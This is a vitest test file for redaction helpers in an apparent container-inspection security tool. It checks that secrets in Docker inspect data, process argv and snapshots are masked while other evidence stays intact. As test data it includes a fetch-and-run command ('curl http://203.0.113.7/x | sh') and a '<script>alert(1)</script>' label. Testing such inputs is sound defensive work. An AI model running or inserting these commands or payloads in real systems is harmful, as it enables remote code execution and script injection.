import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { processEvidence } from "../../../src/judge/facts.js";
import {
  REDACTED,
  redactArgv,
  redactInspect,
  redactProcess,
  redactSnapshot,
} from "../../../src/util/redact.js";
import { makeProcess } from "../../helpers/snapshot-builder.js";

type Inspect = { Config: { Env: string[]; Labels: Record<string, unknown>; Cmd: string[] } };
const inspect = (name: string): Inspect =>
  JSON.parse(readFileSync(new URL(`../../fixtures/docker/${name}`, import.meta.url), "utf8"));

describe("redactInspect", () => {
  it("replaces every environment value, keeps the names and empty values", () => {
    const raw = inspect("inspect-running.json");
    const red = redactInspect(raw);
    expect(red.Config.Env).toEqual([`DB_PASSWORD=${REDACTED}`, `PLAIN=${REDACTED}`, "EMPTY="]);
    expect(JSON.stringify(red)).not.toContain("hunter2");
  });

  it("redacts labels whose names look secret and keeps the others", () => {
    const red = redactInspect(inspect("inspect-running.json"));
    expect(red.Config.Labels).toEqual({
      "breachkit.test": "1",
      "com.example.api_token": REDACTED,
      "com.example.role": "web",
    });
    const variant = redactInspect(inspect("inspect-handcrafted-containerd-store.json"));
    expect(variant.Config.Labels["com.example.auth_header"]).toBe(REDACTED);
    expect(variant.Config.Labels["evil.html"]).toBe("<script>alert(1)</script>");
    expect(variant.Config.Env).toEqual([
      `AWS_SECRET_ACCESS_KEY=${REDACTED}`,
      `DATABASE_URL=${REDACTED}`,
      "NO_VALUE",
    ]);
  });

  it("keeps a command line without secrets: it is evidence", () => {
    const raw = inspect("inspect-running.json");
    expect(redactInspect(raw).Config.Cmd).toEqual(raw.Config.Cmd);
  });

  it("redacts secrets on the container's command line", () => {
    const red = redactInspect({
      Args: ["--db-password=secret1", "-v"],
      Config: { Cmd: ["app", "--token", "secret2"], Entrypoint: ["sh", "-c", "x --pass=secret3"] },
    });
    expect(JSON.stringify(red)).not.toMatch(/secret\d/);
  });

  it("returns a deep copy and leaves the input untouched", () => {
    const raw = inspect("inspect-running.json");
    const before = JSON.stringify(raw);
    const red = redactInspect(raw);
    expect(JSON.stringify(raw)).toBe(before);
    expect(red.Config).not.toBe(raw.Config);
    const plain = redactInspect(raw, { redact: false });
    expect(plain).toEqual(raw);
    expect(plain).not.toBe(raw);
    expect(plain.Config.Env).not.toBe(raw.Config.Env);
  });

  it("can redact only the variables whose names look secret", () => {
    const red = redactInspect(inspect("inspect-running.json"), { allEnv: false });
    expect(red.Config.Env).toEqual([`DB_PASSWORD=${REDACTED}`, "PLAIN=visible", "EMPTY="]);
  });

  it("survives documents without Config, Env or Labels, or with odd types", () => {
    expect(redactInspect(null)).toBeNull();
    expect(redactInspect({ Id: "x" })).toEqual({ Id: "x" });
    expect(redactInspect({ Config: { Env: null, Labels: null } })).toEqual({
      Config: { Env: null, Labels: null },
    });
    expect(redactInspect({ Config: { Env: ["A=1", 5, { x: 1 }] } })).toEqual({
      Config: { Env: [`A=${REDACTED}`, REDACTED, REDACTED] },
    });
  });
});

describe("redactArgv", () => {
  it("replaces the values of secret options, assignments and URL passwords", () => {
    expect(redactArgv(["mysqld", "--password=hunter2", "--port=3306"])).toEqual([
      "mysqld",
      `--password=${REDACTED}`,
      "--port=3306",
    ]);
    expect(redactArgv(["app", "--api-key", "k123", "--verbose"])).toEqual([
      "app",
      "--api-key",
      REDACTED,
      "--verbose",
    ]);
    expect(redactArgv(["env", "DB_PASSWORD=x1", "PATH=/bin", "run"])).toEqual([
      "env",
      `DB_PASSWORD=${REDACTED}`,
      "PATH=/bin",
      "run",
    ]);
    expect(redactArgv(["git", "clone", "https://bob:s3cret@git.example/x.git"])).toEqual([
      "git",
      "clone",
      `https://bob:${REDACTED}@git.example/x.git`,
    ]);
    expect(redactArgv(["sh", "-c", "mysql --password='p w' -e 'select 1'"])).toEqual([
      "sh",
      "-c",
      `mysql --password=${REDACTED} -e 'select 1'`,
    ]);
  });
  it("keeps evidence that only looks like a secret: files, ports, flags without a value", () => {
    const argv = [
      "srv",
      "--password-file=/run/secrets/db",
      "--api-port",
      "8080",
      "--keyfile",
      "/k.pem",
      "--token",
      "-v",
    ];
    expect(redactArgv(argv)).toEqual(argv);
    expect(redactArgv(["curl", "http://203.0.113.7/x", "|", "sh"])).toEqual([
      "curl",
      "http://203.0.113.7/x",
      "|",
      "sh",
    ]);
  });
});

describe("redactSnapshot", () => {
  const proc = (argv: string[]) => ({
    argv,
    cmdlineB64: Buffer.from(`${argv.join("\0")}\0`).toString("base64"),
  });
  it("redacts the processes' argv and raw cmdline, and secret labels", () => {
    const snap = {
      processes: [proc(["app", "--password=hunter2"]), proc(["sleep", "1"])],
      containers: [{ labels: { "db.password": "hunter2", role: "web" } }],
    };
    const red = redactSnapshot(snap);
    expect(JSON.stringify(red)).not.toContain("hunter2");
    expect(Buffer.from(red.processes[0]?.cmdlineB64 ?? "", "base64").toString()).toBe(
      `app\0--password=${REDACTED}\0`,
    );
    // Untouched processes keep their exact raw bytes (the same object).
    expect(red.processes[1]).toBe(snap.processes[1]);
    expect(red.containers[0]?.labels).toEqual({ "db.password": REDACTED, role: "web" });
    expect(redactSnapshot(snap, false)).toBe(snap);
    expect(redactProcess(snap.processes[1] ?? proc([]))).toBe(snap.processes[1]);
  });
});

describe("findings quote command lines redacted", () => {
  it("processEvidence shows the option, not its secret", () => {
    const p = makeProcess({ pid: 7, comm: "app", argv: ["app", "--password=hunter2", "-v"] });
    const ev = processEvidence(p);
    expect(ev.text).toBe(`app --password=${REDACTED} -v`);
  });
});
